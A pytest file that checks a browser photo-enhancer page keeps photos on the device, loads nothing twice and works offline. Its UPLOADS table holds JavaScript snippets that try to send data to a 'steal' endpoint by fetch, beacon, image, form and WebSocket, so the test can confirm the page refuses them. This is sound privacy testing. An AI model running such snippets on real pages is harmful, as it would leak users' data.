"""Nothing leaves the device, nothing is loaded twice, and the page works offline."""

import browser as chromium
import enhancer_page
import pytest

# What uploading could look like, in the page or in its worker. Each must fail.
UPLOADS = {
    "another server": "url => fetch(url + 'steal', {method: 'POST', mode: 'no-cors', body: 'x'})",
    "own server": "() => fetch(new URL('steal', location), {method: 'POST', body: 'x'})",
    "own file": """() => fetch(new URL('model.json?photo', location), {method: 'POST', body: 'x'})
        .then(response => { if (!response.ok) throw Error('refused'); })""",
    "beacon": """url => { if (!navigator.sendBeacon(url + 'steal', 'x')) throw Error('refused');
        throw Error('sent, unless the policy refuses it'); }""",
    "image": """url => new Promise((resolve, reject) => {
        const image = new Image(); image.onload = resolve; image.onerror = reject;
        image.src = url + 'steal'; })""",
    "form": """url => { const form = document.body.appendChild(document.createElement('form'));
        form.action = url + 'steal'; form.method = 'POST'; form.target = '_blank'; form.submit();
        throw Error('sent, unless the policy refuses it'); }""",
    "web socket": """url => new Promise((resolve, reject) => {
        const socket = new WebSocket(url.replace('http', 'ws') + 'steal');
        socket.onopen = resolve; socket.onerror = reject; })""",
}


def fails(where, script: str, *args) -> bool:
    """Whether a script throws; `where` is a page or a worker."""
    try:
        where.evaluate(script, *args)
    except Exception:
        return True
    return False


def test_no_request_leaves_and_a_second_photo_loads_nothing(browser, server, photo, built_page):
    context = browser.new_context(viewport=chromium.DESKTOP)
    requests = []
    context.on("request", lambda request: requests.append((request.method, request.url)))
    page = context.new_page()
    page.goto(server.url)
    enhancer_page.wait_until_ready(page)
    enhancer_page.open_photos(page, photo)
    enhancer_page.wait_until_enhanced(page)
    files = [url for _, url in requests if not url.startswith("blob:")]
    assert any(url.endswith(".wasm") for url in files)
    assert {method for method, _ in requests} == {"GET"}
    assert all(url.startswith(server.url) for url in files)
    assert all((built_page / (url.removeprefix(server.url) or ".")).exists() for url in files)

    def asked() -> int:
        """But for the browser's own look, at any time, whether the service worker is new."""
        return sum(request != "GET /service_worker.js" for request in server.requests)

    loaded, asked_before = len(files), asked()
    enhancer_page.open_photos(page, photo)
    enhancer_page.wait_until_enhanced(page)
    assert page.locator("#list li").count() == 2
    assert len([url for _, url in requests if not url.startswith("blob:")]) == loaded
    assert asked() == asked_before
    context.close()


@pytest.fixture(params=["under the service worker", "without it"])
def guarded(request, browser, server):
    """The page, and its worker, with and without what the service worker adds."""
    workers = "allow" if request.param.startswith("under") else "block"
    with enhancer_page.opened(browser, server, service_workers=workers) as page:
        yield page, request.param


def test_uploading_is_refused(guarded, server, tmp_path):
    page, how = guarded
    (worker,) = [worker for worker in page.workers if worker.url.startswith("blob:")]
    with enhancer_page.served(tmp_path) as other:
        for name, script in UPLOADS.items():
            if name.startswith("own") and how == "without it":
                continue  # `python -m http.server` refuses it
            assert fails(page, script, other.url), name
        for name in ("another server", "web socket"):
            assert fails(worker, UPLOADS[name], other.url), name
        page.wait_for_timeout(300)
        assert other.requests == []
    assert not [request for request in server.requests if "steal" in request or "photo" in request]
    assert len(page.context.pages) == 1


def test_without_service_worker_it_says_what_is_missing(browser, server, photo):
    with enhancer_page.opened(browser, server, service_workers="block") as page:
        assert "one thread" in page.text_content("#place")
        assert "https://" in page.text_content("#place")
        assert "Only where" in page.text_content("#offline")
        enhancer_page.open_photos(page, photo)
        enhancer_page.wait_until_enhanced(page)


def test_offline_after_the_first_visit(browser, built_page, photo):
    context = browser.new_context(viewport=chromium.PHONE)
    page = context.new_page()
    with enhancer_page.served(built_page) as server:
        page.goto(server.url)
        enhancer_page.wait_until_ready(page)
    for _ in range(2):  # the server is gone
        page.goto(server.url)
        enhancer_page.wait_until_ready(page)
    assert "works without internet" in page.text_content("#offline")
    enhancer_page.open_photos(page, photo)
    enhancer_page.wait_until_enhanced(page)
    context.close()
